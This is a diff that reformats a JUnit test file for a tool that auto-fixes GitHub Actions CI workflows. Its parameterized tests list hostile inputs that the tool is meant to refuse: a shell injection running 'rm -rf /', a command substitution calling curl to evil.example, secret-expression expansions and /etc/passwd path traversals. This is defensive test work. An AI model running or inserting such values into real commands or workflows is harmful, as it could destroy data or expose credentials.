@@ -16,7 +16,8 @@ import org.junit.jupiter.params.provider.ValueSource;
 
 /** What each fix does in the cases that it tells apart. */
 final class FixesTest {
-  private static final String HEAD = "name: CI\non: push\njobs:\n  test:\n    runs-on: ubuntu-24.04\n";
+  private static final String HEAD =
+      "name: CI\non: push\njobs:\n  test:\n    runs-on: ubuntu-24.04\n";
   private static final String CHECKOUT = "      - uses: actions/checkout@v4\n";
 
   private FixKind kind = FixKind.MARK_JOB_OPTIONAL;
@@ -155,7 +156,8 @@ final class FixesTest {
       steps("      - run: pip install pytest coverage==7.6 # tools\n      - run: pytest\n");
       log = List.of("ModuleNotFoundError: No module named 'sklearn'");
 
-      assertThat(edited().after()).contains("pip install pytest coverage==7.6 scikit-learn # tools\n");
+      assertThat(edited().after())
+          .contains("pip install pytest coverage==7.6 scikit-learn # tools\n");
     }
 
     @Test
@@ -181,14 +183,25 @@ final class FixesTest {
       log = List.of("Error: Cannot find module '@acme/kit/colours'");
 
       assertThat(edited().after())
-          .contains("      - run: |\n          npm ci\n          npm install --no-save @acme/kit\n");
+          .contains(
+              "      - run: |\n          npm ci\n          npm install --no-save @acme/kit\n");
     }
 
     @ParameterizedTest
     @ValueSource(
         strings = {
-          "x'; rm -rf / #", "$(curl evil.example)", "${{ secrets.TOKEN }}", "a\nb: c", "--index-url=x",
-          "../../etc/passwd", "`id`", "a b", "\"quoted\"", "-r", "пакет", ""
+          "x'; rm -rf / #",
+          "$(curl evil.example)",
+          "${{ secrets.TOKEN }}",
+          "a\nb: c",
+          "--index-url=x",
+          "../../etc/passwd",
+          "`id`",
+          "a b",
+          "\"quoted\"",
+          "-r",
+          "пакет",
+          ""
         })
     void ofHostileNamesAreRefused(String name) {
       kind = FixKind.ADD_DEPENDENCY;
@@ -255,7 +268,9 @@ final class FixesTest {
 
       assertThat(edited().after())
           .contains(
-              "      - uses: actions/setup-node@v4\n        with:\n          node-version-file: .nvmrc\n");
+              "      - uses: actions/setup-node@v4\n"
+                  + "        with:\n"
+                  + "          node-version-file: .nvmrc\n");
     }
 
     @ParameterizedTest
@@ -295,7 +310,8 @@ final class FixesTest {
     @Test
     void thatWereMovedAreNamedWhereTheyAre() {
       kind = FixKind.GUARD_MISSING_FILE;
-      steps("      - name: Deploy\n        run: |\n          ./deploy.sh prod # as deploy.sh says\n");
+      steps(
+          "      - name: Deploy\n        run: |\n          ./deploy.sh prod # as deploy.sh says\n");
       step = "Deploy";
       params.put("file", "deploy.sh");
       params.put("candidates", "README.md\nscripts/deploy.sh");
@@ -343,7 +359,18 @@ final class FixesTest {
 
     @ParameterizedTest
     @ValueSource(
-        strings = {"/etc/passwd", "../up", "a'b", "$(x)", "a b", "${{ github.token }}", "~/x", "", "a\nb", "*"})
+        strings = {
+          "/etc/passwd",
+          "../up",
+          "a'b",
+          "$(x)",
+          "a b",
+          "${{ github.token }}",
+          "~/x",
+          "",
+          "a\nb",
+          "*"
+        })
     void outsideTheRepositoryAreLeftAlone(String file) {
       kind = FixKind.GUARD_MISSING_FILE;
       steps("      - name: Up\n        run: cat a.txt\n");
@@ -412,7 +439,13 @@ final class FixesTest {
     @Test
     void areBoundedAndWaitLongerEachTime() {
       kind = FixKind.ADD_RETRY;
-      steps("      - name: Get\n        run: |\n          ls\n          curl -f \\\n            https://x.example\n          make\n");
+      steps(
+          "      - name: Get\n"
+              + "        run: |\n"
+              + "          ls\n"
+              + "          curl -f \\\n"
+              + "            https://x.example\n"
+              + "          make\n");
       step = "Get";
       log = List.of("curl: (22) The requested URL returned error: 429");
 
@@ -442,8 +475,13 @@ final class FixesTest {
     @ParameterizedTest
     @ValueSource(
         strings = {
-          "npm publish", "git push origin main", "curl -X POST https://x.example", "docker push a/b",
-          "for i in 1 2; do curl x; done", "gh release create v1", "terraform apply -auto-approve"
+          "npm publish",
+          "git push origin main",
+          "curl -X POST https://x.example",
+          "docker push a/b",
+          "for i in 1 2; do curl x; done",
+          "gh release create v1",
+          "terraform apply -auto-approve"
         })
     void leaveAloneWhatSendsSomething(String command) {
       kind = FixKind.ADD_RETRY;
@@ -456,7 +494,11 @@ final class FixesTest {
     @Test
     void giveAnActionATokenForGitHubsOwnLimit() {
       kind = FixKind.ADD_RETRY;
-      steps("      - name: Proto\n        uses: arduino/setup-protoc@v3\n        with:\n          version: 25.x\n");
+      steps(
+          "      - name: Proto\n"
+              + "        uses: arduino/setup-protoc@v3\n"
+              + "        with:\n"
+              + "          version: 25.x\n");
       step = "Proto";
       log = List.of("##[error]API rate limit exceeded for 20.1.2.3.");
 
